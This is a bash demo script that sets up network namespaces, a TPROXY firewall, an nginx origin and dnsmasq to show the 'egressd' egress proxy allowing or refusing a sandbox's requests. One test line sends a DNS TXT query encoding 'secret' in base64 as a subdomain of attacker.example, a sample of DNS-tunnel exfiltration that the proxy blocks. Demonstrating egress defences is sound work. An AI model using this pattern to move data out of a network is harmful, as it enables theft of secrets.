#!/usr/bin/env bash
# Sets everything up on a fresh Debian 12 machine (as root) and runs egressd on a demo sandbox:
# a sandbox namespace, the proxy host with TPROXY rules, and an "internet" namespace with an
# HTTPS+HTTP origin for api.github.com, pypi.org and evil.example plus a DNS server (dnsmasq).
# Shows one allowed and one refused HTTPS request and one refused HTTP request, then keeps
# egressd running until Ctrl-C and removes everything it created.
set -euo pipefail
cd "$(dirname "$0")/.."
root=$(pwd)
P=egd
work=$(mktemp -d /tmp/egressd-demo.XXXXXX)
pids=()

cleanup() {
  set +e
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null; done
  wait 2>/dev/null
  bash tests/e2e/topology.sh down "$P"
  rm -rf "/etc/netns/${P}sbx1" "$work" /run/egressd-demo
  echo "demo cleaned up"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

bash scripts/install-deps.sh
cmake --preset release >/dev/null
cmake --build --preset release -j "$(nproc)" --target egressd

bash tests/e2e/topology.sh up "$P"
ip netns exec "${P}host" bash deploy/firewall.sh up --iface "${P}h1" --iface "${P}h2" --port 15001 --dns 198.18.0.53 --dns-port 15053

openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=egressd-demo \
  -addext "subjectAltName=DNS:api.github.com,DNS:pypi.org,DNS:evil.example" \
  -keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
cat >"$work/nginx.conf" <<NGINX
user root; daemon off; worker_processes 1; pid $work/nginx.pid; error_log $work/nginx-error.log;
events { worker_connections 256; }
http {
  access_log $work/nginx-access.log;
  server {
    listen 198.18.0.10:443 ssl; listen 198.18.0.10:80;
    ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem;
    location / { default_type text/plain; return 200 "hello from the origin, you asked for \$host\n"; }
  }
}
NGINX
ip netns exec "${P}net" nginx -c "$work/nginx.conf" -p "$work" & pids+=($!)
ip netns exec "${P}net" dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=198.18.0.53 \
  --bind-interfaces --address=/api.github.com/198.18.0.10 --address=/pypi.org/198.18.0.10 \
  --address=/evil.example/198.18.0.10 --address=/gist.github.com/198.18.0.10 2>"$work/dnsmasq.log" & pids+=($!)
mkdir -p "/etc/netns/${P}sbx1" /run/egressd-demo
echo "nameserver 198.18.0.53" >"/etc/netns/${P}sbx1/resolv.conf"

ip netns exec "${P}host" build/release/egressd --config config/demo.yaml >"$work/access.log" & pids+=($!)
for _ in $(seq 50); do
  ip netns exec "${P}host" curl -s -o /dev/null http://127.0.0.1:9464/metrics && break
  sleep 0.1
done

in_sandbox() { echo "+ $*"; ip netns exec "${P}sbx1" "$@" || true; echo; }
echo
echo "=== from inside the sandbox (policy: allow *.github.com, pypi.org; deny gist.github.com)"
in_sandbox curl -sk --max-time 5 https://api.github.com/
# The DNS filter refuses the names below, so curl is told their address (--resolve): egressd
# still refuses the connections themselves.
in_sandbox curl -sk --max-time 5 --resolve evil.example:443:198.18.0.10 https://evil.example/ -o /dev/null -w "curl exit %{exitcode}: %{errormsg}\n"
in_sandbox curl -s --max-time 5 -i --resolve gist.github.com:80:198.18.0.10 http://gist.github.com/
echo "=== DNS from inside the sandbox, answered by egressd from the same policy (any resolver address)"
in_sandbox dig +short +tries=1 +time=3 api.github.com
in_sandbox dig +tries=1 +time=3 +noall +comments evil.example
in_sandbox dig +tries=1 +time=3 +noall +comments @198.18.0.99 c2VjcmV0.attacker.example TXT
sleep 0.5
echo "=== egressd's access log (one JSON line per connection or DNS query)"
cat "$work/access.log"
echo
echo "=== metrics: ip netns exec ${P}host curl -s http://127.0.0.1:9464/metrics"
ip netns exec "${P}host" curl -s http://127.0.0.1:9464/metrics | grep -E '^egressd_connections_total\{.*\} [1-9]'
echo
if [[ -n "${DEMO_EXIT:-}" ]]; then exit 0; fi
echo "egressd keeps running. Try: ip netns exec ${P}sbx1 curl -sk https://api.github.com/   (Ctrl-C to stop)"
tail -f "$work/access.log" & pids+=($!)
wait "${pids[2]}"
